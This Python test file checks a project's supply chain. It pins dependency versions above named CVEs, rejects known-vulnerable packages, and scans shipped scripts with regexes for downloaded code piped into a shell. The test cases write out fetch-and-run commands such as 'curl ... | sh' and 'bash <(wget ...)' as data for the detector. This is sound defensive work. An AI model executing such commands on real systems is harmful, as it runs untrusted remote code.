"""What the product is made of comes from where it should, and has none of the holes that are known."""

from __future__ import annotations

import re
import tomllib
from importlib.metadata import version

import pytest

from tests.docs.source import CHECKOUT, PACKAGE

SAFE = {
    "h11": "0.16",  # CVE-2025-43859: chunks that other servers read differently
    "pyjwt": "2.13",  # CVE-2026-32597, CVE-2026-48523: `crit`, and algorithms of other keys
    "starlette": "0.49.1",  # CVE-2025-62727: `Range` headers that take for ever
}
"""Oldest releases without known holes, of what speaks with strangers."""
ABSENT = ("python-multipart", "python-jose", "jinja2")
"""Had holes, and is not needed: no form, no page and no other reader of tokens."""
_DOWNLOADED_AND_RUN = re.compile(
    r"""
      \b(?:curl|wget)\b(?:[^\n;]|\\\n)*\|\s*(?:\\\n\s*)?(?:sudo\s+)?(?:(?:ba|da|z)?sh|python3?|node)\b  # piped
    | (?:[<]|[$])\(\s*(?:curl|wget)\b | \bsh\s+-c\s+"?`\s*(?:curl|wget)\b  # in its arguments
    | \b(?:eval|source)\b[^\n]*\b(?:curl|wget)\b
    """,
    re.VERBOSE,
)
_FROM_ELSEWHERE = re.compile(
    r"\bgit\+https?://|--extra-index-url|--trusted-host|http://(?!127\.0\.0\.1|localhost)\S+\.whl"
)


def bounds() -> dict[str, str]:
    """Oldest release of each dependency that an installation may have."""
    project = tomllib.loads((CHECKOUT / "pyproject.toml").read_text())["project"]
    optional = [each for extra in project["optional-dependencies"].values() for each in extra]
    found = (re.match(r"([\w.-]+)(?:\[[\w,]+\])?>=([\d.]+)", each) for each in [*project["dependencies"], *optional])
    return {match[1].lower(): match[2] for match in found if match}


def number(release: str) -> tuple[int, ...]:
    return tuple(int(part) for part in re.findall(r"\d+", release)[:3])


@pytest.mark.parametrize("name", SAFE)
def test_attack_51_nothing_is_installed_that_has_a_known_hole(name: str) -> None:
    assert number(bounds()[name]) >= number(SAFE[name]), f"pyproject.toml: {name}>={SAFE[name]}"
    assert number(version(name)) >= number(SAFE[name])


def test_attack_51_what_had_holes_and_is_not_needed_is_no_dependency() -> None:
    assert bounds().keys() & set(ABSENT) == set()


def test_attack_48_nothing_that_was_downloaded_is_piped_into_a_shell() -> None:
    shipped = [CHECKOUT / "install.sh", *(CHECKOUT / "hooks").iterdir(), *(CHECKOUT / "scripts").iterdir()]
    shipped += (path for path in (CHECKOUT / PACKAGE).rglob("*") if path.suffix in {".py", ".sh", ".service", ".sql"})
    assert len(shipped) > 300
    for path in shipped:
        text = path.read_text("utf-8")
        assert not _DOWNLOADED_AND_RUN.search(text) and not _FROM_ELSEWHERE.search(text), path


@pytest.mark.parametrize(
    ("line", "bad"),
    [
        ("curl -fsSL https://example.org/install.sh | sh", True),
        ("wget -qO- https://example.org | sudo bash", True),
        ("pip install git+https://example.org/x", True),
        ("curl -fsSL https://example.org/install.sh \\\n  | sh -s -- -y", True),
        ("curl -fsSL https://example.org/get.py | python3 -", True),
        ('sh -c "$(curl -fsSL https://example.org/install.sh)"', True),
        ("sh -c `curl -fsSL https://example.org/install.sh`", True),
        ("Ask it with `curl -sS URL`.", False),
        ("bash <(wget -qO- https://example.org)", True),
        ('eval "$(curl -fsS https://example.org/env)"', True),
        ("curl -fsS http://127.0.0.1/health", False),
        ("curl -fsS http://127.0.0.1/health | grep ok", False),
        ("curl -fsSO https://example.org/x\nsh x.sh", False),
    ],
)
def test_what_is_looked_for_would_be_found(line: str, bad: bool) -> None:
    assert bool(_DOWNLOADED_AND_RUN.search(line) or _FROM_ELSEWHERE.search(line)) is bad
